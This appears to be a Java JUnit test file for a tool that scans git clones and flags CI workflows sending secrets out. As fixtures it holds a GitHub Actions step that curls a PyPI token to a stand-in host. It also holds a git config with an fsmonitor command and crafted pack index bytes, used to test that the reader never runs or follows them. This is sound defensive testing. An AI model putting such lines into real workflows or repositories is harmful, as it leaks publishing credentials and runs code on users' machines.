package dev.pubwatch.cli.git;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.pubwatch.events.CiEvent;
import dev.pubwatch.formats.CredentialHasher;
import dev.pubwatch.formats.Format;
import dev.pubwatch.formats.FormatContext;
import dev.pubwatch.formats.Formats;
import dev.pubwatch.formats.Parsed;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class GitCloneTest {
  private static final String STEAL =
      "run: curl -d 'k=${{ secrets.PYPI_TOKEN }}' https://collect.example.net\n";

  private static final Format LOG = Formats.byName("git-workflow-log");

  @TempDir private Path folder = Path.of("");

  private static List<String> lines(Path clone) throws IOException {
    try (InputStream in = GitClone.find(clone).get(0).open()) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
    }
  }

  /** What the format makes of each commit, by the commit's id. */
  private static Map<String, CiEvent> events(Path clone) throws IOException {
    FormatContext context = new FormatContext(new CredentialHasher(new byte[32]), null, null);
    Map<String, CiEvent> events = new TreeMap<>();
    for (String line : lines(clone)) {
      Parsed parsed = LOG.parse(line.getBytes(StandardCharsets.UTF_8), context);
      CiEvent event = (CiEvent) ((Parsed.Events) parsed).events().get(0);
      events.put(event.getCi().getHeadSha(), event);
    }
    return events;
  }

  private static CiEvent of(Map<String, CiEvent> events, String commit) {
    return Objects.requireNonNull(events.get(commit), commit);
  }

  @Test
  void everyCommitIsALineAndWorkflowsAreRead() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.remote("https://user:secret@Git.Example.org:8443/acme/tool.git");
    String first = repo.commit("Ada@Example.org", Map.of("README", "hello"));
    String ci = repo.commit("bob@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    String theft = repo.commit("ada@example.org", Map.of(".github/workflows/log.yml", STEAL));
    String both =
        repo.commit(
            "b[bot]@example.org",
            Map.of(".github/workflows/ci.yml", "on: [push]\n", "src/a", "1", "src/b", "2"));
    String gone = repo.remove("ada@example.org", ".github/workflows/log.yml");

    Map<String, CiEvent> events = events(folder.resolve("tool"));
    assertEquals(5, events.size());
    CiEvent plain = of(events, first);
    assertEquals("other:commit", plain.getAction());
    assertEquals("git:git.example.org/acme/tool@" + first, plain.getEventId());
    assertEquals("acme", plain.getOwner());
    assertEquals("ada@example.org", plain.getActor().getId());
    assertEquals("workflow:create", of(events, ci).getAction());

    CiEvent stolen = of(events, theft);
    assertEquals("workflow:create", stolen.getAction());
    assertEquals(".github/workflows/log.yml", stolen.getCi().getWorkflow());
    assertEquals(List.of("collect.example.net"), stolen.getCi().getEgressHosts());
    assertEquals(true, stolen.getCi().getSendsSecrets());
    assertEquals("1", stolen.getAttributes().get("secret_refs"));
    assertEquals(TestRepository.time(3), stolen.getTime());

    assertEquals("workflow:update", of(events, both).getAction());
    assertEquals("3", of(events, both).getAttributes().get("files_changed"));
    assertEquals("bot", of(events, both).getActor().getKind().toString());
    assertEquals("workflow:delete", of(events, gone).getAction());
    assertFalse(String.join("", lines(folder.resolve("tool"))).contains("secret@"));
  }

  @Test
  void mergesDoWhatNoParentHadAndUnmergedBranchesAreRead() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String base = repo.commit("ada@example.org", Map.of("README", "1"));
    repo.branch("feature");
    String inside = repo.commit("eve@example.org", Map.of(".github/workflows/f.yml", "on: push\n"));
    repo.checkout("main");
    repo.commit("ada@example.org", Map.of("README", "2"));
    String merge = repo.merge("ada@example.org", "feature", Map.of());
    repo.deleteBranch("feature");
    repo.branch("second");
    repo.commit("bob@example.org", Map.of("src", "1"));
    repo.checkout("main");
    String evil = repo.merge("eve@example.org", "second", Map.of(".github/workflows/f.yml", STEAL));
    repo.branch("attack");
    String attack = repo.commit("ada@example.org", Map.of(".github/workflows/x.yml", STEAL));
    repo.checkout("main");

    Map<String, CiEvent> events = events(folder.resolve("tool"));
    assertEquals("workflow:create", of(events, inside).getAction());
    assertEquals("eve@example.org", of(events, inside).getActor().getId());
    assertEquals("other:commit", of(events, merge).getAction(), "told by the branch's commit");
    assertEquals("2", of(events, merge).getAttributes().get("parents"));
    assertEquals("workflow:update", of(events, evil).getAction(), "no parent had that");
    assertEquals(true, of(events, evil).getCi().getSendsSecrets());
    assertEquals("workflow:create", of(events, attack).getAction());
    assertTrue(events.containsKey(base));
    assertEquals(7, events.size());
  }

  @Test
  void aRenameIsADeletionAndAnAddition() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.commit("ada@example.org", Map.of(".github/workflows/a.yml", "on: push\n"));
    String renamed =
        repo.rename("ada@example.org", ".github/workflows/a.yml", ".github/workflows/b.yml");
    CiEvent event = of(events(folder.resolve("tool")), renamed);
    assertEquals("workflow:create", event.getAction());
    assertEquals(".github/workflows/b.yml", event.getCi().getWorkflow());
    assertEquals(
        "D .github/workflows/a.yml, A .github/workflows/b.yml",
        event.getAttributes().get("workflow_changes"));
  }

  @Test
  void whatCannotBeReadIsSaid() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String big = "on: push\n" + "#".repeat(2 << 20);
    repo.commit("ada@example.org", Map.of(".github/workflows/big.yml", big));
    String link = repo.link("ada@example.org", ".github/workflows/link.yml", "../../README");
    List<String> lines = lines(folder.resolve("tool"));
    JsonNode huge = json(lines.get(1));
    assertEquals(
        ".github/workflows/big.yml is not read: it has 2,097,161 bytes",
        huge.path("workflow_note").asText());
    assertTrue(huge.path("workflow_sends_secrets").isMissingNode(), "nobody looked");
    assertEquals(link, json(lines.get(0)).path("commit").asText());
    assertEquals(0, json(lines.get(0)).path("workflow_changes").size(), "a link is no workflow");
  }

  @Test
  void aWorkflowIsFoundBehindAnyNumberOfFiles() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    Map<String, String> files = new TreeMap<>(Map.of(".github/workflows/x.yml", STEAL));
    for (int i = 0; i < 20_500; i++) {
      files.put(".a/%d/%d".formatted(i % 200, i), "");
    }
    String flood = repo.insert("ada@example.org", files);
    CiEvent event = of(events(folder.resolve("tool")), flood);
    assertEquals(List.of("collect.example.net"), event.getCi().getEgressHosts());
    assertFalse(event.getAttributes().containsKey("files_changed"), "too many to count");
  }

  @Test
  void theEndOfAShallowCloneCreatesNothing() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.commit("ada@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    String last = repo.commit("ada@example.org", Map.of("README", "1"));
    Files.writeString(folder.resolve("tool/.git/shallow"), last + "\n");
    List<String> lines = lines(folder.resolve("tool"));
    assertEquals(1, lines.size());
    assertEquals(0, json(lines.get(0)).path("workflow_changes").size());
    assertTrue(json(lines.get(0)).path("workflow_note").asText().contains("shallow"));
  }

  @Test
  void aBareCloneReadsTheSame() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.remote("git@git.example.org:acme/tool.git");
    repo.commit("ada@example.org", Map.of(".github/workflows/ci.yml", "on: push\n"));
    assertEquals(lines(folder.resolve("tool")), lines(folder.resolve("tool/.git")));
  }

  @Test
  void whatIsMissingOrBrokenIsARejectAndTheRestIsRead() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    String first = repo.commit("ada@example.org", Map.of("README", "1"));
    String broken = repo.commit("ada@example.org", Map.of("README", "2"));
    String last = repo.commit("ada@example.org", Map.of(".github/workflows/x.yml", STEAL));
    repo.branch("other");
    String other = repo.commit("bob@example.org", Map.of("README", "3"));
    repo.breakObject(broken);
    repo.dropObject(first);
    Files.writeString(folder.resolve("tool/.git/refs/heads/nowhere"), "1".repeat(40) + "\n");

    FormatContext context = new FormatContext(new CredentialHasher(new byte[32]), null, null);
    List<String> reasons = new ArrayList<>();
    int read = 0;
    for (String line : lines(folder.resolve("tool"))) {
      Parsed parsed = LOG.parse(line.getBytes(StandardCharsets.UTF_8), context);
      if (parsed instanceof Parsed.Reject reject) {
        reasons.add(reject.reason());
      } else {
        read++;
        assertTrue(line.contains(other), line);
      }
    }
    assertEquals(1, read);
    assertEquals(3, reasons.size(), reasons::toString);
    String all = String.join("\n", reasons);
    assertTrue(all.contains("commit " + broken), all);
    assertTrue(all.contains("commit " + last), "its parent cannot be compared: " + all);
    assertTrue(all.contains("refs/heads/nowhere"), all);
  }

  @Test
  void whatIsNoRepositoryIsRefused() throws Exception {
    assertEquals(
        "not a git repository, and none in it",
        refusal(Files.createDirectory(folder.resolve("a"))));
    assertEquals("not a folder", refusal(Files.createFile(folder.resolve("b"))));
    assertEquals(List.of(), lines(TestRepository.at(folder.resolve("empty")).folder()));
  }

  @Test
  void aFolderOfClonesIsReadWhole() throws Exception {
    for (String name : List.of("acme/tool", "acme/lib", "solo")) {
      TestRepository.at(folder.resolve(name)).commit("ada@example.org", Map.of("README", name));
    }
    assertEquals(
        List.of("acme/lib", "acme/tool", "solo"),
        GitClone.find(folder).stream().map(GitClone::name).toList());
  }

  @Test
  void nothingLeadsOutOfTheClone() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    repo.commit("ada@example.org", Map.of(".github/workflows/x.yml", STEAL));
    Path git = folder.resolve("tool/.git");
    Files.writeString(
        git.resolve("config"),
        "[include]\n path = /dev/zero\n[core]\n fsmonitor = touch " + folder.resolve("ran"));
    Files.createSymbolicLink(git.resolve("refs/heads/zero"), Path.of("/dev/zero"));
    Map<Path, Object> before = tree(git);
    assertEquals(1, lines(folder.resolve("tool")).size());
    assertEquals(before, tree(git), "nothing is written");
    assertFalse(Files.exists(folder.resolve("ran")));

    Path alternates = Files.writeString(git.resolve("objects/info/alternates"), "/srv/other\n");
    assertTrue(refusal(folder.resolve("tool")).contains("borrows objects"));
    Files.delete(alternates);
    Path index = git.resolve("objects/pack/pack-" + "a".repeat(40) + ".idx");
    byte[] claim = new byte[2000];
    Arrays.fill(claim, 8 + 255 * 4, 8 + 256 * 4, (byte) 0x7f);
    System.arraycopy(new byte[] {-1, 't', 'O', 'c', 0, 0, 0, 2}, 0, claim, 0, 8);
    Files.write(index, claim);
    assertTrue(refusal(folder.resolve("tool")).contains("index"));
    Files.delete(index);
    Files.createSymbolicLink(git.resolve("objects/zz"), Path.of("/dev/zero"));
    assertTrue(refusal(folder.resolve("tool")).contains("link or a device"));
  }

  private static Map<Path, Object> tree(Path top) throws IOException {
    try (Stream<Path> walk = Files.walk(top)) {
      Map<Path, Object> tree = new TreeMap<>();
      for (Path path : walk.toList()) {
        tree.put(path, Files.getLastModifiedTime(path, LinkOption.NOFOLLOW_LINKS));
      }
      return tree;
    }
  }

  private static String refusal(Path path) {
    IOException e = assertThrows(IOException.class, () -> lines(path));
    return String.valueOf(e.getMessage());
  }

  @ParameterizedTest
  @CsvSource({
    "https://github.com/acme/tool.git, github.com/acme/tool",
    "https://user:pw@git.example.org:8443/a/b/c/, git.example.org/a/b/c",
    "git@github.com:acme/tool.git, github.com/acme/tool",
    "ssh://git@git.example.org:22/acme/tool, git.example.org/acme/tool",
    "/srv/git/tool.git, ''",
    "../tool, ''",
  })
  void namesARepositoryAfterItsRemote(String url, String name) {
    assertEquals(name, CloneFolder.ofUrl(url));
  }

  private static JsonNode json(String line) throws IOException {
    return new ObjectMapper().readTree(line);
  }

  @Test
  void theSameLinesEachTime() throws Exception {
    TestRepository repo = TestRepository.at(folder.resolve("tool"));
    for (int i = 0; i < 5; i++) {
      repo.commit("ada@example.org", Map.of(".github/workflows/w" + i + ".yml", STEAL + i));
    }
    List<String> once = new ArrayList<>(lines(folder.resolve("tool")));
    assertEquals(once, lines(folder.resolve("tool")));
    assertEquals(5, once.size());
  }
}
